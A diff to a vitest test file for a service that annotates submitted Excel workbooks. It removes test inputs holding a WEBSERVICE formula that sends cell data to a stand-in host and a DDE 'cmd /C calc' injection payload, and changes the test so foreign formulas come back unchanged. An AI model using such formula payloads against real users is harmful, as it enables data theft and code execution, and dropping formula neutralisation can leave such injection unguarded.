@@ -4,6 +4,7 @@ import type { Workbook } from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { edit, open } from './book.js';
 import { cleanGrid, header, identity, prefill, secret, t1 } from './t1.js';
+import { unzip } from './zip.js';
 
 const first = cleanGrid();
 const second = cleanGrid(first);
@@ -70,16 +71,12 @@ describe('a returned workbook', () => {
       expect(whole).toContain(`统计表!${finding.place?.cell}`);
     }
   });
-  it('links each finding to its cell', () => {
-    const list = book.getWorksheet('审核意见');
-    const links: string[] = [];
-    list?.eachRow((row) =>
-      row.eachCell((cell) => {
-        if (cell.hyperlink) links.push(cell.hyperlink);
-      }),
-    );
+  it('links each finding to its cell', async () => {
+    const parts = await unzip(returned);
+    const list = parts.map(({ data }) => Buffer.from(data).toString()).find((xml) => xml.includes('<hyperlink '));
+    const links = [...(list ?? '').matchAll(/<hyperlink [^>]*location="([^"]+)"/g)].map((m) => m[1]);
     expect(links).toHaveLength(findings.length);
-    expect(new Set(links)).toEqual(new Set(findings.map((finding) => `#'统计表'!${finding.place?.cell}`)));
+    expect(new Set(links)).toEqual(new Set(findings.map((finding) => `'统计表'!${finding.place?.cell}`)));
   });
   it('marks cells by the worst that is said of them, and says it in a comment', () => {
     const [error, warning, note] = ['E', 'W', 'I'].map(find);
@@ -108,14 +105,12 @@ describe('a returned workbook', () => {
       );
     }
   });
-  it('gives back the values of formulas that are not the form’s own', async () => {
+  it('gives back formulas that are not the form’s own as they came: it is the clerk’s file', async () => {
     const clever = await edit(handedIn, (cell) => {
-      cell('E7').value = { formula: 'WEBSERVICE("http://x/"&A1)', result: 100 };
-      cell('E8').value = { formula: "cmd|' /C calc'!A0", result: 'x' };
+      cell('E7').value = { formula: 'SUM(1,99)', result: 100 };
     });
     const back = await open(await pool.annotate({ bytes: clever, name: 'x.xlsx', findings: [] }));
-    expect(back.getWorksheet('统计表')?.getCell('E7').value).toBe(100);
-    expect(back.getWorksheet('统计表')?.getCell('E8').value).toBe('x');
+    expect(back.getWorksheet('统计表')?.getCell('E7')).toMatchObject({ formula: 'SUM(1,99)', result: 100 });
   });
 });
 
